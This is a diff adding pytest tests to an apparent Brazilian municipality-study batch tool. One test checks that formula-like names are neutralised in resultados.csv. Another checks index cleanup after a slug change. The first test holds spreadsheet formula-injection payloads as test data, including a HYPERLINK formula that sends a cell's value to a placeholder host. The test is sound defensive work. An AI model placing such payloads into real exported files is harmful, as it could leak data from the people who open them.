@@ -178,3 +178,44 @@ def test_a_template_that_is_not_a_notebook_never_reaches_the_index(cands, tmp_pa
                            "um caderno Jupyter em JSON); esperado um caderno .ipynb como "
                            "notebooks/estudo.ipynb")
     assert "segredo" not in err and not out.exists()
+
+
+def test_formulas_in_names_are_inert_in_resultados_csv(tmp_path):
+    import csv
+
+    d = tmp_path / "cands"
+    d.mkdir()
+    base = ("operation = \"create-municipality\"\n[area]\ndistricts = [\"520010010\"]\n"
+            "[origin]\nmunicipalities = [\"5200100\"]\n")
+    names = {"link": '=HYPERLINK("http://x.invalid/?"&A1,"clique")', "soma": "@SUM(1+1)",
+             "mais": "+1+1", "menos": "-2+3", "normal": "Posse Normal"}
+    for stem, name in names.items():
+        (d / f"{stem}.toml").write_text(f"name = '{name}'\n" + base, encoding="utf-8")
+    out = tmp_path / "lote"
+    run_batch([d], out, workers=1, study=FAKE, progress=False)
+    with open(out / "resultados.csv", encoding="utf-8", newline="") as fh:
+        rows = {r["slug"]: r for r in csv.DictReader(fh)}
+    assert rows["link"]["nome"] == "'" + names["link"]
+    assert rows["soma"]["nome"] == "'@SUM(1+1)"
+    assert rows["mais"]["nome"] == "'+1+1"
+    assert rows["menos"]["nome"] == "'-2+3"
+    assert rows["normal"]["nome"] == "Posse Normal"
+    import pandas as pd
+
+    assert set(pd.read_parquet(out / "resultados.parquet")["nome"]) == set(names.values())
+
+
+def test_after_a_slug_change_the_old_study_leaves_the_index(cands, tmp_path, capsys):
+    out = tmp_path / "lote"
+    run_batch([cands], out, workers=1, study=FAKE, progress=False)
+    _candidate(cands, "alfa", "Alfa", slug="alfa-nova")
+    assert cli_main(["lote", str(cands), "--saida", str(out), "--sem-progresso"]) == 0
+    printed = capsys.readouterr().out
+    assert (f"  fora do índice: a pasta alfa é de um estudo antigo de alfa.toml, que agora grava "
+            "em alfa-nova (a pasta antiga foi mantida; apague-a se não precisar dela)") in printed
+    import csv
+
+    with open(out / "resultados.csv", encoding="utf-8", newline="") as fh:
+        assert {r["slug"] for r in csv.DictReader(fh)} == {"alfa-nova", "beta"}
+    assert 'href="alfa/' not in (out / "index.html").read_text(encoding="utf-8")
+    assert (out / "alfa" / "estudo.html").is_file()  # kept on disk
